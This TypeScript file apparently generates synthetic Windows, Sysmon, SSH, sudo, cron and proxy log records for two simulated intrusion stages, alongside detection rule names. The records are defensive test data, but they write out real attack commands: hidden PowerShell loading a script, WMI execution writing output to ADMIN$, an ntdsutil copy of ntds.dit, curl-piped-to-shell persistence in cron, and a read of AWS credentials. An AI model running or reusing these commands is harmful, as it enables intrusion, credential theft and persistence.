import { account, hosts, intruders } from '../company.ts'
import { squidLine, zeekConnection } from '../formats/network.ts'
import { loggedOn, privilegesGiven, serviceInstalled } from '../formats/security-log.ts'
import { fileCreated, type Process, processStarted } from '../formats/sysmon.ts'
import { auditedRun, cronMessage, sshMessage, sudoMessage, syslogRecord } from '../formats/unix.ts'
import { insideIp, stolen } from './credentials.ts'
import type { StoryStep } from './step.ts'

const attackerName = 'DESKTOP-4T7Q2MV'
const system = 'C:\\Windows\\System32'

const wmiProvider = {
  image: `${system}\\wbem\\WmiPrvSE.exe`,
  commandLine: `${system}\\wbem\\wmiprvse.exe -secured -Embedding`,
}
const byWmi = (commandLine: string): Process => ({
  image: `${system}\\cmd.exe`,
  commandLine: `cmd.exe /Q /c ${commandLine} 1> \\\\127.0.0.1\\ADMIN$\\__1732184611.42 2>&1`,
  user: account(stolen),
  integrity: 'High',
  folder: 'C:\\',
  parent: wmiProvider,
})

export const lateralMovement: StoryStep = {
  title: 'From server to server',
  account:
    'Remote desktop to the file server, a service there that starts a command interpreter, and commands through WMI on the ERP server and the domain controller, where the directory is copied.',
  rules: [
    'Remote desktop logon',
    'Service installed that runs a command interpreter',
    'Command interpreter started through WMI',
    'Command output written to an administrative share',
    'Directory database copied with ntdsutil',
  ],
  decisive: [
    'Service installed that runs a command interpreter',
    'Command output written to an administrative share',
    'Directory database copied with ntdsutil',
  ],
  records: ({ at }) => {
    const { fileServer, erpServer, domainController } = hosts
    const service = `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "iex(gc C:\\ProgramData\\s.txt)"`
    const copy = byWmi('ntdsutil "ac i ntds" "ifm" "create full C:\\ProgramData\\ifm" q q')
    return [
      loggedOn(fileServer, at(0), stolen, { type: 10, fromIp: insideIp, fromName: attackerName }),
      privilegesGiven(fileServer, at(0.01), stolen),
      serviceInstalled(fileServer, at(0.15), { name: 'kxWbQzRt', path: service }),
      processStarted(fileServer, at(0.18), {
        image: `${system}\\cmd.exe`,
        commandLine: service.replace('%COMSPEC%', `${system}\\cmd.exe`),
        user: 'NT AUTHORITY\\SYSTEM',
        integrity: 'System',
        parent: { image: `${system}\\services.exe`, commandLine: `${system}\\services.exe` },
      }),
      loggedOn(erpServer, at(0.35), stolen, { type: 3, fromIp: insideIp, fromName: attackerName }),
      processStarted(erpServer, at(0.4), byWmi('whoami')),
      processStarted(erpServer, at(0.5), byWmi('dir D:\\ERP\\Export')),
      loggedOn(domainController, at(0.7), stolen, { type: 3, fromIp: insideIp, fromName: attackerName }),
      processStarted(domainController, at(0.75), copy),
      processStarted(domainController, at(0.78), {
        image: `${system}\\ntdsutil.exe`,
        commandLine: 'ntdsutil "ac i ntds" "ifm" "create full C:\\ProgramData\\ifm" q q',
        user: account(stolen),
        integrity: 'High',
        parent: { image: copy.image, commandLine: copy.commandLine },
      }),
      fileCreated(
        domainController,
        at(0.9),
        { ...copy, image: `${system}\\ntdsutil.exe` },
        'C:\\ProgramData\\ifm\\Active Directory\\ntds.dit',
      ),
    ]
  },
}

export const linuxServer: StoryStep = {
  title: 'The web server',
  account:
    'Passwords are tried against SSH until the deploy account’s works; sudo gives a root shell, which pipes a script from the web into a shell and leaves it in cron.',
  rules: [
    'Too many failed SSH passwords in one connection',
    'SSH login with a password from outside',
    'SSH passwords tried until one worked',
    'Root shell opened through sudo',
    'Download piped into a shell',
    'Cron job fetches and runs code',
    'Program or script fetched from a bare address',
  ],
  decisive: [
    'SSH login with a password from outside',
    'SSH passwords tried until one worked',
    'Download piped into a shell',
    'Cron job fetches and runs code',
  ],
  records: ({ at, random }) => {
    const host = hosts.webServer
    const from = (port: number) => `from ${intruders.loginIp} port ${port}`
    const guesses = Array.from({ length: 36 }, (_, index) => {
      const port = 40_000 + Math.floor(index / 6) * 7
      const failed = sshMessage(host, at(index * 0.012), `Failed password for deploy ${from(port)} ssh2`)
      const end = `error: maximum authentication attempts exceeded for deploy ${from(port)} ssh2 [preauth]`
      return index % 6 === 5 ? [failed, sshMessage(host, at(index * 0.012 + 0.006), end)] : [failed]
    })
    const script = `http://${intruders.toolsIp}/u.sh`
    return [
      ...guesses.flat(),
      sshMessage(host, at(0.5), `Accepted password for deploy ${from(40_977)} ssh2`),
      sshMessage(host, at(0.505), 'pam_unix(sshd:session): session opened for user deploy(uid=1005) by deploy(uid=0)'),
      sudoMessage(host, at(0.58), { user: 'deploy', folder: '/tmp', command: '/bin/bash' }),
      ...auditedRun(host, at(0.66), {
        executable: '/usr/bin/bash',
        arguments: ['bash', '-c', `curl -fsSL ${script} | sh`],
        uid: 0,
      }),
      squidLine(at(0.67), {
        fromIp: host.ip,
        method: 'GET',
        url: script,
        toIp: intruders.toolsIp,
        bytes: 6118,
        type: 'text/x-shellscript',
      }),
      ...auditedRun(host, at(0.7), {
        executable: '/usr/bin/cat',
        arguments: ['cat', '/home/deploy/.aws/credentials'],
        uid: 0,
      }),
      syslogRecord(host, at(0.8), { app: 'crontab', facility: 9, text: '(root) REPLACE (root)' }),
      ...[0.88, 0.98].map((share) => cronMessage(host, at(share), 'root', `curl -fsSL ${script} | sh >/dev/null 2>&1`)),
      zeekConnection(at(0.9), {
        fromIp: host.ip,
        toIp: intruders.toolsIp,
        port: 80,
        service: 'http',
        sentBytes: 412 + random.int(0, 40),
        receivedBytes: 6118,
        durationSeconds: 1,
      }),
    ]
  },
}
